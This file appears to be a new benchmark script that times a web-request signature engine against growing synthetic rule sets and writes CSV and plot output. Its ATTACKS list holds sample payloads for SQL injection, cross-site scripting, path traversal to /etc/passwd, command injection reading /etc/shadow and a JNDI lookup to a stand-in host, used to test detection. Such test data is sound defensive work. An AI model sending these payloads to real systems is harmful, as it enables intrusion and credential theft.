@@ -0,0 +1,149 @@
+"""Benchmark signature matching cost as the rule count grows.
+
+Generates synthetic rule sets (literals, regexes with a required literal and a small share
+of regexes without one), builds a SignatureEngine for each size and times inspect() over
+a fixed corpus of benign and malicious requests. Results are printed as a table, written
+to CSV and, when matplotlib is installed, plotted to a PNG.
+
+    python bench_signatures.py --sizes 10,100,1000,10000,100000 --requests 2000
+"""
+import argparse  # Import argparse for command-line options
+import csv  # Import csv for writing the results table
+import random  # Import random for synthetic rules and requests
+import string  # Import string for random literal alphabets
+import time  # Import time for build and match timing
+
+from histogram import LogLinearHistogram  # Import histogram for per-request cost percentiles
+from signatures import Signature, SignatureEngine  # Import the engine under test
+
+try:  # Plotting is optional
+    import matplotlib
+    matplotlib.use("Agg")  # Render without a display
+    import matplotlib.pyplot as plt
+except ImportError:
+    plt = None
+
+ALPHABET = string.ascii_lowercase + string.digits  # Characters used in synthetic literals
+LITERAL_SHARE = 0.7  # Fraction of rules that are plain literals
+UNANCHORED_SHARE = 0.02  # Fraction of rules that are regexes without a required literal
+PATHS = ["/", "/login", "/api/items", "/static/app.js", "/search", "/cart/checkout", "/admin/users"]
+AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/8.5.0", "python-requests/2.32", "Go-http-client/1.1"]
+ATTACKS = [  # Payloads that hit the shipped signatures.rules
+    "id=1' OR 1=1--", "q=<script>alert(1)</script>", "file=../../etc/passwd",
+    "cmd=;cat /etc/shadow ", "x=${jndi:ldap://evil/a}",
+]
+
+
+def random_literal(rng, low=6, high=14):
+    """Return a random lower-case alphanumeric token."""
+    return "".join(rng.choice(ALPHABET) for _ in range(rng.randint(low, high)))
+
+
+def generate_rules(count, seed=0):
+    """Return `count` synthetic Signatures with a fixed literal/regex mix."""
+    rng = random.Random(seed)
+    rules = []
+    for number in range(count):
+        roll = rng.random()
+        if roll < UNANCHORED_SHARE:  # No literal of MIN_ATOM_LENGTH: goes to the grouped prefilter
+            pattern = f"[{rng.choice(ALPHABET)}{rng.choice(ALPHABET)}]\\d{{{rng.randint(3, 6)}}}[a-f]{{2}}="
+            rules.append(Signature(f"syn-{number}", "alert", "regex", pattern))
+        elif roll < UNANCHORED_SHARE + LITERAL_SHARE:
+            rules.append(Signature(f"syn-{number}", "alert", "literal", random_literal(rng)))
+        else:  # Regex with a required literal: confirmed only when the atom is seen
+            pattern = f"{random_literal(rng)}\\s*[=:]\\s*\\w{{{rng.randint(1, 4)},}}"
+            rules.append(Signature(f"syn-{number}", "alert", "regex", pattern))
+    return rules
+
+
+def generate_requests(count, rules, seed=1, attack_share=0.1):
+    """Return `count` (path, query, headers, body) tuples; some embed attacks or rule literals."""
+    rng = random.Random(seed)
+    literals = [rule.pattern for rule in rules if rule.kind == "literal"]
+    requests = []
+    for _ in range(count):
+        query = "&".join(f"{random_literal(rng, 2, 6)}={random_literal(rng, 2, 10)}" for _ in range(rng.randint(0, 4)))
+        body = " ".join(random_literal(rng, 3, 9) for _ in range(rng.randint(0, 60)))
+        if rng.random() < attack_share:
+            query += "&" + rng.choice(ATTACKS)
+            if literals:
+                body += " " + rng.choice(literals)
+        headers = [
+            ("Host", "localhost:5000"), ("User-Agent", rng.choice(AGENTS)),
+            ("Accept", "*/*"), ("Content-Length", str(len(body))),
+        ]
+        requests.append((rng.choice(PATHS), query, headers, body))
+    return requests
+
+
+def run(sizes, request_count, rules_file=None):
+    """Benchmark every rule count; return one result dict per size."""
+    base = SignatureEngine.from_file(rules_file).signatures if rules_file else []
+    results = []
+    for size in sizes:
+        rules = base + generate_rules(size)
+        corpus = generate_requests(request_count, rules)
+        start = time.perf_counter()
+        engine = SignatureEngine(rules)
+        build_seconds = time.perf_counter() - start
+
+        cost = LogLinearHistogram()
+        matched = 0
+        for path, query, headers, body in corpus:
+            start = time.perf_counter_ns()
+            matched += bool(engine.inspect("127.0.0.1", "GET", path, query, headers, body))
+            cost.record(time.perf_counter_ns() - start)
+        summary = cost.summary(scale=1e-3)  # Microseconds
+        results.append({
+            "rules": len(rules),
+            "unanchored": len(engine.unanchored),
+            "build_s": round(build_seconds, 3),
+            "p50_us": summary["p50"], "p90_us": summary["p90"],
+            "p99_us": summary["p99"], "max_us": summary["max"],
+            "matched_requests": matched,
+        })
+        print("{rules:>8} rules ({unanchored:>5} unanchored)  build {build_s:>8.3f}s  p50 {p50_us:>9.1f}us  "
+              "p90 {p90_us:>9.1f}us  p99 {p99_us:>9.1f}us  matched {matched_requests}".format(**results[-1]),
+              flush=True)
+    return results
+
+
+def write_csv(results, path):
+    """Write the results table."""
+    with open(path, "w", newline="") as file:
+        writer = csv.DictWriter(file, fieldnames=list(results[0]))
+        writer.writeheader()
+        writer.writerows(results)
+
+
+def plot(results, path):
+    """Plot per-request cost percentiles against rule count on log-log axes."""
+    figure, axes = plt.subplots(figsize=(8, 5))
+    rules = [result["rules"] for result in results]
+    for column in ("p50_us", "p90_us", "p99_us"):
+        axes.plot(rules, [result[column] for result in results], marker="o", label=column.replace("_us", ""))
+    axes.set_xscale("log")
+    axes.set_yscale("log")
+    axes.set_xlabel("Signatures loaded")
+    axes.set_ylabel("Matching cost per request (us)")
+    axes.set_title("Signature matching cost vs rule count")
+    axes.grid(True, which="both", alpha=0.3)
+    axes.legend()
+    figure.savefig(path, dpi=120, bbox_inches="tight")
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--sizes", default="10,100,1000,10000,100000", help="Comma-separated synthetic rule counts")
+    parser.add_argument("--requests", type=int, default=2000, help="Requests matched per rule count")
+    parser.add_argument("--rules", default="signatures.rules", help="Real rule file added to every set ('' for none)")
+    parser.add_argument("--csv", default="signature_bench.csv", help="Results table")
+    parser.add_argument("--plot", default="signature_bench.png", help="Chart (requires matplotlib)")
+    args = parser.parse_args()
+
+    bench_results = run([int(size) for size in args.sizes.split(",")], args.requests, args.rules or None)
+    write_csv(bench_results, args.csv)
+    print(f"Results written to {args.csv}")
+    if plt is not None:
+        plot(bench_results, args.plot)
+        print(f"Chart written to {args.plot}")